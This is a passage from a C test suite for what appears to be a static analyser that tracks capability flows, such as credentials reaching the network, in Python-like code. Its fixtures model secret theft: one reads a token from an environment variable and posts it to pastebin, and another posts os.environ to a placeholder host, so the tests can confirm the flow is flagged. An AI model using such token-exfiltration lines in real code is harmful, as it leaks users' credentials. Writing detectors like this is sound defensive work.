        w->file[i]->flags = TW_RC_REFLECTED; /* a use is added with a smaller cap */
    for (uint32_t i = 0; i < FILES; i++)
        for (int k = 0; k < 5; k++) {
            ub *b = w->file[i];
            uint32_t env = call(b, "os.getenv", ARGS(str(b, "MY_TOKEN")));
            call(b, "requests.post", ARGS(str(b, "https://pastebin.com/x"), env));
        }
    run(w);
    for (uint32_t i = 1; i < w->j.uses.n; i++) {
        const tw_cap_use *a = &w->j.uses.v[i - 1], *b = &w->j.uses.v[i];
        CHECK(a->place.unit < b->place.unit ||
              (a->place.unit == b->place.unit && a->place.off <= b->place.off));
        if (a->place.unit == b->place.unit && a->place.off == b->place.off) CHECK(a->cap <= b->cap);
    }
    CHECK(w->j.flows.n >= 20);
    for (uint32_t i = 1; i < w->j.flows.n; i++)
        CHECK(w->j.flows.v[i - 1].from < w->j.flows.v[i].from ||
              (w->j.flows.v[i - 1].from == w->j.flows.v[i].from &&
               w->j.flows.v[i - 1].to < w->j.flows.v[i].to));
    tw_arena_free(w->a);
}

TEST(steps_are_bounded_and_it_shows)
{
    world *w = world_new();
    ub *b = w->file[1];
    uint32_t v = sym(b, "os.environ");
    for (int i = 0; i < 20000; i++) v = LIST(b, TW_VAL_SEQ, v);
    call(b, "requests.post", ARGS(str(b, "https://h.example/"), v));
    run(w);
    CHECK(flow(w, TW_CAP_CRED_ENV_ALL, TW_CAP_NET_HTTP) != NULL);
    CHECK(!(w->coverage.limits_hit >> TW_LIMIT_flow_steps & 1));
    w->limits.flow_steps = 1000;
    run(w);
    CHECK(!flow(w, TW_CAP_CRED_ENV_ALL, TW_CAP_NET_HTTP));
    CHECK(w->coverage.limits_hit >> TW_LIMIT_flow_steps & 1);
    tw_arena_free(w->a);
}

TEST(circles_end)
{
    world *w = world_new();
    ub *b = w->file[1], *h = w->file[2];
    import(b, "helper", "x", 1);
    import(h, "", "x", 1);
    bind(b, "x", sym(b, ".helper.x"));
    bind(h, "x", sym(h, "pkg.x"));
    call(b, "pkg.x", 0, NULL);
    uint32_t cls = func(b, "A", TW_REGION_CLASS, 0, 0);
    base(b, cls, val(b, TW_VAL_FUNC, cls, 0));
    call_func(b, cls, 0, NULL);
    uint32_t f = func(b, "f", TW_REGION_FUNCTION, 0, 1);
    b->func = f;
    uint32_t again = call_func(b, f, ARGS(val(b, TW_VAL_PARAM, f, 0)));
    returns(b, f, again);
    call(b, "open", ARGS(again));
    run(w);
    CHECK(use_in(w, 1, TW_CAP_FS_READ) != NULL);
    tw_arena_free(w->a);
}
TESTS_MAIN()
